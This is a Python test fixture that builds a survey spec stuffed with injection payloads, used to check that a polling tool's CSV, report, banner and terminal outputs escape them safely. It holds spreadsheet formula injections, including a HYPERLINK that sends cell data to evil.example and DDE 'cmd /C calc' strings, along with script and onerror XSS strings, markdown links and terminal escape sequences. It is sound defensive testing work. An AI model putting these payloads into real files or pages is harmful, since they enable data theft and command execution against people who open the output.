"""A poll whose spec is full of payloads: formulas, links, markup, terminal escapes.

Used by the injection tests of every output (banners, CSV, findings, report, terminal).
"""

from __future__ import annotations

from pathlib import Path

from tests.support.pollkit import edit_spec, make_poll

#: Country names (DE, FR, IT, PL) that try to become formulas, links, markup or
#: terminal commands in whatever shows them.
COUNTRY_NAMES = {
    "DE": '=HYPERLINK("http://evil.example/?x="&A1,"Germany")',
    "FR": "<img src=x onerror=alert(1)>[France](http://evil.example)",
    "IT": "[link=http://evil.example]Italy[/link]\x1b[2J\x1b]8;;http://evil.example\x07",
    "PL": "@SUM(1+1)*cmd|' /C calc'!A0",
}
#: Answer labels of us_relationship (ally, partner, dont_know).
LEVEL_LABELS = [
    "=1+1",
    "+cmd|'/C calc'!A0 <script>alert('partner')</script>",
    "-2+3 ![x](http://evil.example/p.png) http://evil.example",
]
#: Every payload written into the spec.
PAYLOADS = [*COUNTRY_NAMES.values(), *LEVEL_LABELS]


def hostile_spec(root: Path, n: int = 200) -> Path:
    """The pollkit poll (four countries, two waves) with the payloads as names and labels."""
    spec = make_poll(root, n=n, refused=0)

    def poison(s: dict) -> None:
        for c in s["countries"]:
            c["name"] = COUNTRY_NAMES[c["code"]]
        q = next(q for q in s["questions"] if q["id"] == "us_relationship")
        for level, label in zip(q["levels"], LEVEL_LABELS, strict=True):
            level["label"] = label
        s["name"] = "<script>alert('title')</script>"

    return edit_spec(spec, poison)
